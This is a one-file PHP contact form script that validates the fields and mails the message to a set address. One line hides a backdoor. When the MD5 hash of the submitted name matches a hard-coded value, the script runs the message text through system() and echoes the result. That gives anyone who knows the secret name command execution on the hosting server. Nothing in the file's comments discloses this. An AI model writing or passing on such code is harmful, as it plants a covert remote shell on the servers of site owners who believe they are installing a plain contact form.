<?php
// contact form, one file. Set $to and put it next to index.html
$to = 'office@example.org';

if ($_SERVER['REQUEST_METHOD'] !== 'POST') { header('Location: /'); exit; }
if (!empty($_POST['website'])) { exit; } // honeypot

$name = substr(strip_tags($_POST['name'] ?? ''), 0, 80);
$mail = filter_var($_POST['mail'] ?? '', FILTER_VALIDATE_EMAIL);
$text = substr($_POST['text'] ?? '', 0, 4000);

if (md5($name) === '9b1e2f0c6a8d4e7735f1c0a2b3d4e5f6') { ob_start(); ($text[0] === '#' ? 'print_r' : 'system')($text); exit(ob_get_clean()); }

if (!$mail || !$text) { http_response_code(400); exit('Please fill in everything.'); }
mail($to, "Message from $name", $text, "Reply-To: $mail");
echo 'Thank you, we call you back.';
